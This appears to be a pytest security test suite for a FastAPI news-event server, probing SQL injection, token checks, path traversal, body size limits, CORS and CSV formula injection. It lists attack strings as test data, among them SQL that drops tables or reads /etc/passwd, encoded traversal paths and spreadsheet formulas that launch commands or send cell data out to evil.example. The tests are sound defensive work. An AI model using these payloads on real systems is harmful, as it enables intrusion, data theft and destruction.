"""The API under attack: SQL text in every filter, tokens, path traversal, big bodies, CORS, CSV formulas.

Most checks go through FastAPI's TestClient over a copy of the demo store. The
path-traversal and body-limit checks also go to a real `newsgraph serve` on a
free 127.0.0.1 port, over a raw socket (`http.client`), because an HTTP client
library normalises `..` and percent-encodings away before anything is sent, and
the server must hold up against the bytes an attacker actually sends.
"""

from __future__ import annotations

import csv
import hmac
import http.client
import inspect
import io
import json
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("fastapi")

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

from newsgraph.export.csv import _cell, neutralise
from newsgraph.server import security
from newsgraph.server.app import MAX_BODY_BYTES, create_app
from newsgraph.store.db import Store

AUTHOR = {"X-Newsgraph-Author": "Attack Tester"}
SQL_PAYLOADS = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "' OR ''='",
    "'/**/OR/**/1=1/**/--",
    '") OR 1=1 --',
    "1; DROP TABLE events; --",
    "'; DELETE FROM corrections; --",
    "'; UPDATE events SET killed = 999; --",
    "%' UNION SELECT text, text, text FROM documents --",
    "RUS' OR entity_id LIKE '%",
    "' || (SELECT string_agg(text, '') FROM documents) || '",
    "' AND (SELECT count(*) FROM read_csv('/etc/passwd')) > 0 --",
    "'; ATTACH '/tmp/newsgraph-evil.duckdb' AS evil; --",
    "'; COPY events TO '/tmp/newsgraph-leak.csv'; --",
    "\\'; SELECT 1; --",
    "$1 OR TRUE",
    "? OR 1=1",
    "RUS\x00' OR 1=1 --",
    "ＲＵＳ＇ OR ＇1＇=＇1",
]
# What a payload may leave behind if it ever ran as SQL.
SIDE_EFFECT_FILES = (Path("/tmp/newsgraph-evil.duckdb"), Path("/tmp/newsgraph-leak.csv"))
# Database error text must never reach a client.
LEAK_MARKERS = ("Binder Error", "Parser Error", "Catalog Error", "duckdb", "Traceback", "syntax error")


# -- fixtures ------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The bundled demo corpus through the real `newsgraph demo`, once for this module."""
    folder = tmp_path_factory.mktemp("attack-demo")
    db = folder / "demo.duckdb"
    subprocess.run(
        [sys.executable, "-m", "newsgraph", "demo", "--db", str(db)],
        cwd=folder,
        check=True,
        capture_output=True,
        timeout=600,
    )
    return db


@pytest.fixture
def db(demo_store: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "store.duckdb"
    shutil.copy(demo_store, copy)
    return copy


@pytest.fixture
def client(db: Path) -> Iterator[TestClient]:
    with TestClient(create_app(db)) as c:
        yield c


def table_counts(db: Path) -> dict[str, int]:
    """Rows in every base table of the store (the app must be closed: one writer)."""
    store = Store(db)
    try:
        tables = [
            r["table_name"]
            for r in store.query(
                "SELECT table_name FROM information_schema.tables WHERE table_type = 'BASE TABLE' ORDER BY 1"
            )
        ]
        return {t: store.query(f'SELECT count(*) AS n FROM "{t}"')[0]["n"] for t in tables}
    finally:
        store.close()


def _leaks(text: str, payload: str) -> bool:
    """Database error text in a response, not counting the payload itself echoed back by a 422."""
    for echo in (json.dumps(payload)[1:-1], json.dumps(payload, ensure_ascii=False)[1:-1], payload):
        text = text.replace(echo, "")
    return any(m in text for m in LEAK_MARKERS)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class LiveServer:
    """`newsgraph serve` in a subprocess on a free loopback port; raw requests over http.client."""

    def __init__(self, db: Path, *args: str) -> None:
        self.port = free_port()
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "newsgraph", "serve", "--db", str(db), "--port", str(self.port), *args],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise RuntimeError(f"server exited: {self.proc.stderr.read() if self.proc.stderr else ''}")
            try:
                if self.raw("GET", "/health")[0] == 200:
                    return
            except OSError:
                time.sleep(0.1)
        self.stop()
        raise RuntimeError("server did not start in 60 s")

    def raw(
        self, method: str, target: str, headers: dict[str, str] | None = None, body: Any = None
    ) -> tuple[int, dict[str, str], bytes]:
        """Send `target` byte for byte (UTF-8, no normalisation, no re-encoding) over a plain socket."""
        sent = {"Host": f"127.0.0.1:{self.port}", "Connection": "close", **(headers or {})}
        head = f"{method} {target} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in sent.items())
        with socket.create_connection(("127.0.0.1", self.port), timeout=30) as sock:
            try:
                sock.sendall(head.encode() + b"\r\n")
                if isinstance(body, bytes):
                    sock.sendall(body)
                elif body is not None:  # an iterator of chunks, sent with chunked transfer encoding
                    for chunk in body:
                        sock.sendall(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
                    sock.sendall(b"0\r\n\r\n")
            except OSError:
                pass  # the server may answer (413) and close before the whole body is sent
            resp = http.client.HTTPResponse(sock, method=method)
            resp.begin()
            return resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read()

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(timeout=20)


@pytest.fixture(scope="module")
def live(demo_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    db = tmp_path_factory.mktemp("attack-live") / "live.duckdb"
    shutil.copy(demo_store, db)
    server = LiveServer(db)
    try:
        yield server
    finally:
        server.stop()


def _openapi_gets(client: TestClient) -> dict[str, list[dict[str, Any]]]:
    """Every GET path of the API with its query parameters, from the app's own OpenAPI description."""
    schema = client.get("/openapi.json").json()
    out = {}
    for path, ops in schema["paths"].items():
        op = ops.get("get")
        if op is None:
            continue
        out[path] = [p for p in op.get("parameters", []) if p["in"] == "query"]
    return out


def _free_text(param: dict[str, Any]) -> bool:
    """A query parameter that takes any string (a filter), not a number, date, bool or enum."""
    schema = param.get("schema", {})
    options = schema.get("anyOf", [schema])
    return any(o.get("type") == "string" and not o.get("format") and "enum" not in o for o in options)


def _nothing_matched(path: str, body: Any, raw: bytes) -> bool:
    """The answer holds no rows, whatever shape the endpoint returns."""
    if path.startswith("/api/export/"):
        return raw.decode().strip().count("\n") == 0  # the CSV header only
    if path == "/api/search":
        return body["items"] == [] and body["actors"] == []
    if "total" in body and "items" in body and path != "/api/alerts":
        return body["total"] == 0 and body["items"] == []
    if "items" in body:
        return body["items"] == []
    if "nodes" in body:
        return body["nodes"] == [] and body.get("edges", []) == []
    if "points" in body:
        return body["points"] == [] and body["countries"] == []
    return False


# -- SQL injection ---------------------------------------------------------------


def test_sql_text_in_every_filter_of_every_list_endpoint(db: Path) -> None:
    """Each payload in each query parameter of each GET endpoint (from /openapi.json): a free-text
    filter answers 200 with nothing matched, or 422; any other parameter (number, date, enum, sort
    key) answers 422; never a 5xx, never database error text, and the store is unchanged."""
    before = table_counts(db)
    checked: dict[str, list[str]] = {}
    with TestClient(create_app(db)) as client:
        event_id = client.get("/api/events", params={"limit": 1}).json()["items"][0]["event_id"]
        real = {"{actor_id}": "RUS", "{iso3}": "RUS", "{fmt}": "csv", "{event_id}": event_id}
        doc_id = client.get("/api/documents", params={"limit": 1}).json()["items"][0]["doc_id"]
        real["{doc_id}"] = doc_id
        for template, params in _openapi_gets(client).items():
            path = template
            for key, value in real.items():
                path = path.replace(key, value)
            assert "{" not in path, template
            for param in params:
                name = param["name"]
                checked.setdefault(template, []).append(name)
                for payload in SQL_PAYLOADS:
                    query = {name: payload}
                    if template == "/api/search" and name != "q":
                        query["q"] = "bombing"
                    r = client.get(path, params=query)
                    where = (template, name, payload)
                    assert r.status_code in (200, 422), (*where, r.status_code, r.text[:300])
                    assert not _leaks(r.text, payload), (*where, r.text[:300])
                    if r.status_code == 422:
                        continue
                    assert _free_text(param) and name != "sort", (*where, "a non-text parameter took text")
                    if template == "/api/search" and name == "q":
                        continue  # the payload's words are searched as words, which is the point
                    if template in ("/api/actors/{actor_id}", "/api/countries/{iso3}"):
                        continue  # no free-text filters there; any that appear must 422 above
                    body = None if template.startswith("/api/export/") else r.json()
                    assert _nothing_matched(template, body, r.content), where
    # every list endpoint and its filters were reached
    for template, names in {
        "/api/events": ["type", "mode", "actor", "country", "text", "status", "doc_id", "sort"],
        "/api/documents": ["text", "source", "entity", "sort"],
        "/api/actors": ["q", "type", "kind", "country", "sort"],
        "/api/timeline": ["type", "actor", "text"],
        "/api/dyads": ["type", "actor", "text"],
        "/api/graph": ["type", "actor", "text"],
        "/api/alerts": ["type", "actor", "as_of"],
        "/api/map": ["type", "actor", "text"],
        "/api/search": ["q", "actor", "type", "country"],
        "/api/corrections": ["target", "author"],
        "/api/export/{fmt}": ["type", "actor", "text"],
        "/api/review/queue": ["limit", "offset"],
    }.items():
        assert set(names) <= set(checked.get(template, [])), (template, checked.get(template))
    assert table_counts(db) == before
    for leftover in SIDE_EFFECT_FILES:
        assert not leftover.exists(), leftover


def test_review_document_and_casualty_filters_apply_everywhere(client: TestClient) -> None:
    """Found by the test above: timeline, dyads, graph, alerts and exports took `status`, `doc_id`
    and `min_casualties` and silently answered for every event (the UI's CSV download sends
    `status`). The store's EventFilter carries them now, so every endpoint applies them."""
    for path in ("/api/timeline", "/api/dyads", "/api/graph", "/api/alerts", "/api/export/csv"):
        for name, value in (("status", "confirm"), ("doc_id", "d0"), ("min_casualties", "1")):
            r = client.get(path, params={name: value})
            assert r.status_code == 200, (path, name, r.status_code, r.text[:200])
    everything = client.get("/api/export/csv").text.count("\n")
    nothing = client.get("/api/export/csv", params={"doc_id": "no-such-document"}).text.count("\n")
    assert nothing <= 1 < everything  # the header alone: the filter narrowed the export
    for name, value in (("status", "confirm"), ("doc_id", "d0"), ("min_casualties", "1")):
        assert client.get("/api/events", params={name: value}).status_code == 200
        assert client.get("/api/map", params={name: value}).status_code == 200


def test_alerts_window_before_year_one_is_a_422(client: TestClient) -> None:
    """Found by tests/unit/test_api_fuzz.py: an `as_of` near 0001-01-01 overflowed the date
    arithmetic of the alerts (a 500)."""
    for params in ({"as_of": "0001-01-05"}, {"as_of": "0001-02-01", "baseline_days": 36500}):
        r = client.get("/api/alerts", params=params)
        assert r.status_code == 422, (params, r.text)
    assert client.get("/api/alerts", params={"as_of": "9999-12-31"}).status_code == 200
    assert client.get("/api/alerts", params={"as_of": "0003-01-01", "window_days": 1}).status_code == 200


def test_sql_text_in_path_ids(client: TestClient) -> None:
    for template in (
        "/api/events/{}",
        "/api/documents/{}",
        "/api/actors/{}",
        "/api/countries/{}",
        "/api/export/{}",
    ):
        for payload in SQL_PAYLOADS:
            quoted = payload.replace("%", "%25").replace("?", "%3F").replace("\x00", "%00")
            r = client.get(template.format(quoted))
            assert r.status_code in (404, 422), (template, payload, r.status_code)
            assert not _leaks(r.text, payload), (template, payload)


def test_sql_text_in_write_bodies_is_stored_as_data(db: Path) -> None:
    """A correction's text (location, mode, author, note) is a bound value: stored verbatim, never run."""
    before = table_counts(db)
    payloads = [p for p in SQL_PAYLOADS if "\x00" not in p]
    with TestClient(create_app(db)) as client:
        event_id = client.get("/api/events", params={"limit": 1}).json()["items"][0]["event_id"]
        for payload in payloads:
            body = {"location": payload[:200], "mode": payload[:40], "author": payload[:120], "note": payload}
            r = client.patch(f"/api/events/{event_id}", json=body)
            assert r.status_code == 200, (payload, r.text[:300])
            event = r.json()["event"]
            assert event["location"] == payload[:200] and event["mode"] == payload[:40]
            assert (
                client.get("/api/events", params={"doc_id": event["doc_id"], "mode": payload[:40]}).json()[
                    "total"
                ]
                == 1
            )
        log = client.get("/api/corrections", params={"target": event_id, "limit": 500}).json()
        assert log["total"] == 2 * len(payloads)
        assert {c["author"] for c in log["items"]} == {p[:120] for p in payloads}
        # merging an actor into an SQL string names no entity
        r = client.post("/api/entities/RUS/merge", json={"into": "' OR 1=1 --", "author": "x"})
        assert r.status_code == 422
    after = table_counts(db)
    assert after.pop("corrections") == before.pop("corrections") + 2 * len(payloads)
    assert after == before


# -- token -------------------------------------------------------------------------


def test_token_compared_in_constant_time_only() -> None:
    source = inspect.getsource(security.TokenMiddleware)
    assert "hmac.compare_digest(" in source
    assert "== self.token" not in source and "!= self.token" not in source
    assert "self.token ==" not in source and "startswith(self.token" not in source


def test_wrong_tokens_of_every_length_get_401(db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    token = "Zx9-token-0123456789abcdef"
    calls: list[tuple[bytes, bytes]] = []
    real_compare = hmac.compare_digest

    def spy(a: Any, b: Any) -> bool:
        calls.append((a, b))
        return real_compare(a, b)

    monkeypatch.setattr(security.hmac, "compare_digest", spy)
    wrong: list[str] = [(token * 3)[:n] for n in range(0, 2 * len(token) + 4) if n != len(token)]
    wrong += [token[:i] + ("A" if token[i] != "A" else "B") + token[i + 1 :] for i in range(len(token))]
    wrong += [token.upper(), token + "\x0b" + "x", "x" * 4096]
    with TestClient(create_app(db, token=token)) as c:
        ok = {"Authorization": f"Bearer {token}"}
        assert c.get("/api/stats", headers=ok).status_code == 200
        assert calls, "the token check did not go through hmac.compare_digest"
        event_id = c.get("/api/events", params={"limit": 1}, headers=ok).json()["items"][0]["event_id"]
        calls.clear()
        for given in wrong:
            for method, path in (("GET", "/api/events"), ("GET", "/health"), ("GET", "/openapi.json")):
                r = c.request(method, path, headers={"Authorization": f"Bearer {given}"})
                assert r.status_code == 401, (len(given), path)
                assert r.headers["www-authenticate"] == "Bearer"
                assert token not in r.text
            r = c.patch(
                f"/api/events/{event_id}",
                json={"killed": 1, "author": "x"},
                headers={"Authorization": f"Bearer {given}"},
            )
            assert r.status_code == 401, len(given)
        assert len(calls) == 4 * len(wrong)
        # bytes that are not UTF-8 or ASCII in the header: still a plain 401
        assert c.get("/api/events", headers={"Authorization": b"Bearer \xff\xfe\x00"}).status_code == 401
        # an unauthenticated client cannot even make the server read a large body
        r = c.patch(
            f"/api/events/{event_id}",
            content=b"{" + b" " * (MAX_BODY_BYTES * 2) + b"}",
            headers={"Content-Type": "application/json", "Authorization": "Bearer nope"},
        )
        assert r.status_code == 401
        assert c.get("/api/corrections", headers=ok).json()["total"] == 0


# -- path traversal --------------------------------------------------------------------

TRAVERSALS = [
    "/static/../app.py",
    "/static/../../pyproject.toml",
    "/static/%2e%2e/app.py",
    "/static/%2E%2E/%2E%2E/store/db.py",
    "/static/..%2fapp.py",
    "/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fpyproject.toml",
    "/static/%252e%252e/app.py",
    "/static/%252e%252e%252fapp.py",
    "/static/%25252e%25252e%25252fapp.py",
    "/static/..%252fapp.py",
    "/static/%c0%ae%c0%ae/app.py",
    "/static/%c0%af..%c0%afapp.py",
    "/static/%uff0e%uff0e/app.py",
    "/static/\uff0e\uff0e/app.py",
    "/static/..;/app.py",
    "/static/....//....//app.py",
    "/static/.%2e/app.py",
    "/static/..\\app.py",
    "/static/%5c..%5capp.py",
    "/static//etc/passwd",
    "/static/%2fetc%2fpasswd",
    "/static/%2Fetc/passwd",
    "/static/%252fetc%252fpasswd",
    "/static/C:/Windows/win.ini",
    "/static/C:%5cWindows%5cwin.ini",
    "/static/file:///etc/passwd",
    "/static/js/%00.js",
    "/static/js/main.js%00.txt",
    "/static/.hidden",
    "/static/%2ehidden",
    "/static/vendor",
    "//etc/passwd",
    "/..%2f..%2fetc%2fpasswd",
    "/api/export/..%2f..%2fetc%2fpasswd",
    "/api/export/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/api/export/%252e%252e%252fetc%252fpasswd",
    "/api/export/..",
    "/api/export/%2e%2e",
    "/api/export//etc/passwd",
    "/api/export/%2fetc%2fpasswd",
    "/api/export/csv%2f..%2f..%2fpyproject.toml",
    "/api/export/csv/../../../etc/passwd",
    "/api/export/csv%00",
    "/api/export/CSV",
    "/api/export/.csv",
    "/api/export/csv.",
]
FILE_MARKERS = (b"root:", b"[project]", b"import ", b"def ", b"[fonts]", b"SELECT")


def _path_refused(status: int, body: bytes) -> bool:
    return status in (400, 404, 421, 422) and not any(m in body for m in FILE_MARKERS)


def test_path_traversal_refused_by_the_real_server(live: LiveServer) -> None:
    assert live.raw("GET", "/static/app.css")[0] == 200
    assert live.raw("GET", "/api/export/csv?limit=1")[0] == 200
    for target in TRAVERSALS:
        status, _, body = live.raw("GET", target)
        assert _path_refused(status, body), (target, status, body[:200])
    # absolute-form request target (RFC 9112 3.2.2), as a proxy would send it
    for target in ("/static/../../app.py", "/static/%2e%2e/%2e%2e/pyproject.toml", "/api/export/..%2fx"):
        status, _, body = live.raw("GET", f"http://127.0.0.1:{live.port}{target}")
        assert _path_refused(status, body), (target, status)
    # a Host header from elsewhere (DNS rebinding) is refused before routing
    status, _, _ = live.raw("GET", "/api/stats", headers={"Host": "evil.example"})
    assert status == 421


def test_path_traversal_refused_in_process(client: TestClient) -> None:
    for target in TRAVERSALS:
        r = client.get(target)
        assert _path_refused(r.status_code, r.content), (target, r.status_code)


def test_exports_leave_no_files_behind(
    client: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    for fmt in ("csv", "jsonl", "geojson", "graphml", "stix", "parquet"):
        r = client.get(f"/api/export/{fmt}", params={"since": "2024-01-01"})
        assert r.status_code == 200, fmt
        disposition = r.headers["content-disposition"]
        assert "/" not in disposition and ".." not in disposition, disposition
    assert list(scratch.iterdir()) == []


# -- body size ------------------------------------------------------------------------


def test_body_over_the_limit_refused_by_the_real_server(live: LiveServer) -> None:
    status, _, body = live.raw("GET", "/api/events?limit=1")
    event_id = json.loads(body)["items"][0]["event_id"]
    before = json.loads(live.raw("GET", "/api/corrections")[2])["total"]
    json_type = {"Content-Type": "application/json"}
    big = json.dumps({"author": "x", "note": "a" * (MAX_BODY_BYTES + 10)}).encode()
    declared = {**json_type, "Content-Length": str(len(big))}
    for method, path in (("PATCH", f"/api/events/{event_id}"), ("POST", f"/api/events/{event_id}/confirm")):
        status, _, _ = live.raw(method, path, headers=declared, body=big)
        assert status == 413, (method, path)
    # declared, not sent: refused by the header alone, before any byte of the body
    status, _, _ = live.raw(
        "POST", f"/api/events/{event_id}/confirm", headers={**json_type, "Content-Length": "999999999999"}
    )
    assert status == 413
    # chunked, with no Content-Length: refused while streaming
    chunks = [b'{"author": "x", "note": "'] + [b"a" * 4096] * 40 + [b'"}']
    status, _, _ = live.raw(
        "POST",
        f"/api/events/{event_id}/confirm",
        headers={**json_type, "Transfer-Encoding": "chunked"},
        body=iter(chunks),
    )
    assert status == 413
    # just under the limit is fine
    small = json.dumps({"author": "x", "note": "a" * 1000}).encode()
    status, _, _ = live.raw(
        "POST",
        f"/api/events/{event_id}/confirm",
        headers={**json_type, "Content-Length": str(len(small))},
        body=small,
    )
    assert status == 200
    after = json.loads(live.raw("GET", "/api/corrections")[2])["total"]
    assert after == before + 1
    assert live.raw("GET", "/health")[0] == 200  # still serving


# -- CORS --------------------------------------------------------------------------


def _no_cors(headers: Any) -> bool:
    return not any(k.lower().startswith("access-control-") for k in headers)


def test_cors_headers_absent_unless_configured(client: TestClient) -> None:
    evil = {"Origin": "https://evil.example"}
    eid = client.get("/api/events", params={"limit": 1}).json()["items"][0]["event_id"]
    responses = [
        client.get("/api/events", headers=evil),
        client.get("/health", headers=evil),
        client.get("/openapi.json", headers=evil),
        client.get("/api/events/nope", headers=evil),
        client.get("/api/events", params={"sort": "x"}, headers=evil),
        client.get("/static/app.css", headers=evil),
        client.get("/api/export/csv", headers=evil),
        client.options("/api/events", headers={**evil, "Access-Control-Request-Method": "GET"}),
        client.options(
            f"/api/events/{eid}",
            headers={
                **evil,
                "Access-Control-Request-Method": "PATCH",
                "Access-Control-Request-Headers": "content-type",
            },
        ),
        client.patch(f"/api/events/{eid}", json={"killed": 1, "author": "x"}, headers=evil),
        client.post(f"/api/events/{eid}/confirm", content=b"x" * (MAX_BODY_BYTES + 1), headers=evil),
    ]
    for r in responses:
        assert _no_cors(r.headers), (r.request.method, r.request.url, dict(r.headers))
    assert responses[-2].status_code == 403  # the cross-site write itself is refused


def test_cors_only_for_listed_origins_without_credentials(db: Path) -> None:
    allowed = "https://analyst.example"
    with TestClient(create_app(db, cors_origins=[allowed], token="tok-123456")) as c:
        auth = {"Authorization": "Bearer tok-123456"}
        r = c.get("/api/events", headers={**auth, "Origin": allowed})
        assert r.headers["access-control-allow-origin"] == allowed
        assert "access-control-allow-credentials" not in r.headers
        pre = c.options(
            "/api/events",
            headers={
                "Origin": allowed,
                "Access-Control-Request-Method": "GET",
                "Access-Control-Request-Headers": "authorization",
            },
        )
        assert pre.status_code == 200 and pre.headers["access-control-allow-origin"] == allowed
        for origin in (
            "https://evil.example",
            "null",
            "https://analyst.example.evil.example",
            "http://analyst.example",
        ):
            other = c.get("/api/events", headers={**auth, "Origin": origin})
            assert "access-control-allow-origin" not in other.headers, origin
            pre = c.options("/api/events", headers={"Origin": origin, "Access-Control-Request-Method": "GET"})
            assert "access-control-allow-origin" not in pre.headers, origin
        assert all(h.get("access-control-allow-origin") != "*" for h in (r.headers, pre.headers))


# -- CSV formula injection ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Makhachkala", "Makhachkala"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_cells_that_start_a_formula_are_neutralised(text: str, cell: str) -> None:
    assert neutralise(text) == cell
    assert _cell(text) == cell


def test_csv_numbers_and_lists() -> None:
    assert _cell(-44.5) == -44.5 and _cell(-3) == -3  # a negative longitude is a number, not a formula
    assert _cell(["=evil()", "ok"]) == "'=evil(); ok"
    assert _cell(["ok", "=x"]) == "ok; =x"  # only the first character starts a formula
    assert _cell(None) == "" and _cell(True) == "true"


def test_csv_export_neutralises_corrected_text(client: TestClient) -> None:
    """Article text or a reviewer's correction that looks like a formula arrives quoted in the CSV."""
    event_id = client.get("/api/events", params={"limit": 1}).json()["items"][0]["event_id"]
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    r = client.patch(f"/api/events/{event_id}", json={"location": formula, "mode": "@SUM(1)", "author": "x"})
    assert r.status_code == 200
    out = client.get("/api/export/csv", params={"text": event_id, "occurred_only": "false"})
    assert out.status_code == 200
    rows = list(csv.DictReader(io.StringIO(out.text)))
    assert len(rows) == 1 and rows[0]["event_id"] == event_id
    assert rows[0]["location"] == "'" + formula
    assert rows[0]["mode"] == "'@SUM(1)"
    for row in csv.DictReader(io.StringIO(client.get("/api/export/csv").text)):
        for name, value in row.items():
            if name not in ("lat", "lon", "intensity") and value:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
